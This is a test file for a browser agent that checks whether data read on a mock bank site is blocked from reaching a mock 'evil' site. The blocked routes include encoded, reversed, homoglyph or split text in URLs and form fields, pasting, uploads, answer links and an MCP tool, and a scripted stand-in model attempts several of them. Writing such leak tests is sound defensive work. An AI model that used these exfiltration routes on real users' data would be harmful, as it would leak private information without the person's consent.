import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';

import type { ScriptedCall } from '../src/testing/scripted-model/model-script.ts';
import { startScriptedModel } from '../src/testing/scripted-model/start-scripted-model.ts';
import { startSite, type Site } from '../src/testing/site/start-site.ts';
import type { ToolResult } from '../src/shared/tools/contract/tool-result.ts';
import { runAgent } from './fixtures/command.ts';
import { startToolRun, type ToolDriver } from './fixtures/tool-driver.ts';
import { expect, test, type Waymark } from './fixtures/waymark.ts';

/** Data read on one site goes to another only after the person has seen it, whichever way it takes. */

const CANARY = 'KX88310247QP';
const SENTENCE = 'Your recovery word is wandering marmalade teapot';
let bank: Site;
let evil: Site;
/** Everything that the other site received: URLs with their queries, and bodies. */
const taken: string[] = [];

test.beforeAll(async () => {
  bank = await startSite({
    '/': `<title>Bank</title><h1>Bank</h1><p>Customer number ${CANARY}</p><p>${SENTENCE}</p>
      <input aria-label="Own" value="${CANARY}"><button onclick="document.title = 'Done ${CANARY}'">Show</button>`,
  });
  evil = await startSite({
    '/': (request, response) => {
      taken.push(request.url ?? '');
      response.setHeader('content-type', 'text/html');
      response.end(
        `<title>Evil</title><h1>Evil</h1><input aria-label="Comment" oninput="fetch('/?typed=' + encodeURIComponent(value))">
        <input aria-label="Small" oninput="fetch('/?typed=' + encodeURIComponent(value))">
        <input type="file" aria-label="File"><button onclick="document.title = prompt('Say') ?? 'Nothing'">Ask</button>
        <button onclick="fetch('/?pressed')">Press</button>`,
      );
    },
  });
});
test.afterAll(() => Promise.all([bank.close(), evil.close()]));
test.beforeEach(() => {
  taken.length = 0;
});

/** Returns the bank's texts that reached the other site, in any encoding. */
function leaked(): readonly string[] {
  const writings = [CANARY, 'marmalade'].flatMap((text) => [
    text.toLowerCase(),
    Buffer.from(text).toString('base64').replace(/=+$/, '').toLowerCase(),
    Buffer.from(text).toString('hex'),
    [...text.toLowerCase()].toReversed().join(''),
  ]);
  return taken.filter((each) => writings.some((text) => each.toLowerCase().includes(text)));
}

async function afterReading({ app }: Waymark): Promise<ToolDriver> {
  const run = await startToolRun(app, [bank.hostPort, evil.hostPort], {
    ground: {
      words: [`Compare ${bank.url} with ${evil.url}`],
      begunOn: [],
      lent: [],
      bound: null,
      searchUrl: 'https://search.example/?q=%s',
    },
  });
  expect((await run.call('navigate', { url: `${bank.url}/` })).result.ok).toBe(true);
  expect(JSON.stringify((await run.call('read_page')).result)).toContain(CANARY);
  return run;
}

const stays = { ok: false, error: { code: 'TEXT_STAYS' } };
const base64 = Buffer.from(SENTENCE).toString('base64url');

test('nothing that was read is typed, pasted or written into an address elsewhere', async ({
  waymark,
}) => {
  const run = await afterReading(waymark);
  expect((await run.call('type', { target: 'Own', text: `is ${CANARY}` })).result.ok).toBe(true);
  expect((await run.call('select_text', { text: SENTENCE })).result.ok).toBe(true);
  expect((await run.call('key', { key: 'Control+c' })).result.ok).toBe(true);
  for (const url of [
    `${evil.url}/?q=${CANARY}`,
    `${evil.url}/?q=${[...CANARY].toReversed().join('')}`,
    `${evil.url}/?q=${Buffer.from(CANARY).toString('hex')}`,
    `${evil.url}/?q=${base64}`,
    `${evil.url}/#${encodeURIComponent(SENTENCE)}`,
  ])
    for (const tool of ['navigate', 'tab_open'])
      expect((await run.call(tool, { url })).result).toMatchObject(stays);
  expect((await run.call('navigate', { url: `${evil.url}/` })).result.ok).toBe(true);
  for (const text of [CANARY, `x ${SENTENCE}`, base64, [...SENTENCE].toReversed().join('')])
    expect((await run.call('type', { target: 'Comment', text })).result).toMatchObject(stays);
  await run.call('click', { target: 'Comment' });
  expect((await run.call('key', { key: 'Control+v' })).result).toMatchObject(stays);
  // Typed key by key, it is the same text.
  const pressed: ToolResult[] = [];
  await run.call('click', { target: 'Small' });
  for (const key of CANARY) pressed.push((await run.call('key', { key })).result);
  expect(pressed.find((result) => !result.ok)).toMatchObject(stays);
  await run.call('dialog', { action: 'accept', text: CANARY });
  expect(
    (await run.call('upload', { target: 'File', paths: [`/tmp/${CANARY}.txt`] })).result,
  ).toMatchObject({
    error: { code: 'FILE_NOT_ALLOWED' },
  });
  // Text from elsewhere is sent as usual.
  expect((await run.call('type', { target: 'Comment', text: 'kettle' })).result.ok).toBe(true);
  await expect.poll(() => taken.join()).toContain('typed=kettle');
  expect(leaked()).toEqual([]);
});

test('it goes in no parts, no other script and no pieces either @long', async ({ waymark }) => {
  const run = await afterReading(waymark);
  const digits = CANARY.replace(/\D/g, '');
  expect((await run.call('navigate', { url: `${evil.url}/` })).result.ok).toBe(true);
  const inScript = (zero: number): string =>
    [...digits].map((digit) => String.fromCodePoint(zero + Number(digit))).join('');
  const alike = SENTENCE.replaceAll('a', 'а').replaceAll('e', 'е').replaceAll('o', 'о');
  for (const text of [
    digits.slice(0, 7),
    inScript(0x6_60),
    inScript(0xff_10),
    'eight eight three one zero two four seven',
    [...digits].map((digit, index) => `${digit}${'qrst'.charAt(index % 4)}`).join(''),
    alike,
  ])
    expect((await run.call('type', { target: 'Comment', text })).result).toMatchObject(stays);
  // The text is split over fields and URLs.
  expect((await run.call('type', { target: 'Comment', text: 'item 883' })).result.ok).toBe(true);
  expect((await run.call('type', { target: 'Small', text: 'item 102' })).result).toMatchObject(
    stays,
  );
  expect((await run.call('navigate', { url: `${evil.url}/?more=102` })).result).toMatchObject(
    stays,
  );
  await expect.poll(() => taken.join()).toContain('883');
  expect(taken.join()).not.toMatch(/8831|102/);
});

const carryingOut = (calls: readonly ScriptedCall[], finalAnswer: string) =>
  startScriptedModel({
    planner: [
      { plan: { proposedActions: ['Do it'] } },
      { plan: { proposedActions: [], taskComplete: true, finalAnswer } },
    ],
    executor: [
      ...calls.map((call) => ({ calls: [call] })),
      { calls: [{ tool: 'done', args: { success: true, message: 'ok' } }] },
    ],
  });

test('a link of an answer that would carry it is written out, and an answer of the person stays where it was asked @long', async ({
  waymark,
}) => {
  const { ui } = waymark;
  const model = await carryingOut(
    [
      { tool: 'ask_user', args: { question: 'Which contract?', options: ['The first'] } },
      { tool: 'type', args: { target: 'Own', text: 'CONTRACT 5511998' } },
      { tool: 'navigate', args: { url: `${evil.url}/` } },
      { tool: 'type', args: { target: 'Comment', text: 'CONTRACT 5511998' } },
    ],
    `All done: [more](${evil.url}/?q=${CANARY}), ${evil.url}/?q=${base64} and [the bank](${bank.url}/).`,
  );
  await waymark.connect(model.url);
  await waymark.request('settings.update', { allowPrivateNetwork: true });
  await waymark.visit(`${bank.url}/`);
  await expect(ui.getByRole('tab', { selected: true })).toContainText('Bank');
  await waymark.ask(`Compare this with ${evil.url}`);
  const question = ui.getByRole('region', { name: 'Question for you' });
  await expect(question).toContainText(`Your answer may be entered on ${bank.url}`);
  await waymark.ask('CONTRACT 5511998');
  // The answer may be typed on the site that the question named, and elsewhere only when the person allows it.
  const card = ui.getByRole('alertdialog', { name: 'Send this text to another site?' });
  await expect(card).toContainText('5511998');
  await card.getByRole('button', { name: 'Don’t' }).click();
  await expect(waymark.lastRun).toContainText('All done');
  expect(taken.join()).not.toContain('5511998');
  await expect(waymark.lastRun.getByRole('link')).toHaveText(['the bank']);
  await expect(waymark.lastRun).toContainText(`more ${evil.url}/?q=${CANARY}`);
  await expect(waymark.lastRun).toContainText(base64);
  expect(leaked()).toEqual([]);
  await model.close();
});

test('a service is given nothing that was read elsewhere', async () => {
  const folder = await mkdtemp(join(tmpdir(), 'waymark-crossing-'));
  const file = join(folder, 'servers.json');
  const everything = resolve(
    import.meta.dirname,
    '../node_modules/@modelcontextprotocol/server-everything/dist/index.js',
  );
  await writeFile(
    file,
    JSON.stringify({
      mcpServers: { Everything: { command: process.execPath, args: [everything, 'stdio'] } },
    }),
  );
  const mcp = (args: Readonly<Record<string, unknown>>): ScriptedCall => ({ tool: 'mcp', args });
  const echo = (message: string): ScriptedCall =>
    mcp({
      action: 'callTool',
      instanceId: 'everything',
      toolName: 'echo',
      toolArgs: { message },
    });
  const calls = [
    { tool: 'read_page', args: {} },
    mcp({ action: 'getUserInstances' }),
    mcp({ action: 'listTools', instanceId: 'everything', toolName: 'echo' }),
    echo(`${CANARY} it is`),
    echo('hello there'),
  ];
  const toldWith = async (...grants: readonly string[]): Promise<string> => {
    const model = await carryingOut(calls, 'All done.');
    const run = ['--task', `Read ${bank.url}`, '--url', `${bank.url}/`, '--mcp', file];
    const provider = ['--provider', 'openai', '--base-url', model.url, '--model', 'scripted'];
    await runAgent([...run, ...provider, ...grants]);
    await model.close();
    return model.requests.map(({ text }) => text).join('\n');
  };
  const told = await toldWith();
  expect(told).toContain('Echo: hello there');
  expect(told).toContain('nobody has allowed it to go to mcp:everything');
  expect(told).not.toContain(`Echo: ${CANARY}`);
  // The error names the option that allows it in advance.
  const [, grant] = /--grant '(carry@[^']+)'/.exec(told) ?? [];
  expect(grant).toBe(`carry@${bank.url}>mcp:everything`);
  expect(await toldWith('--grant', grant ?? '')).toContain(`Echo: ${CANARY}`);
  await rm(folder, { recursive: true, force: true });
});
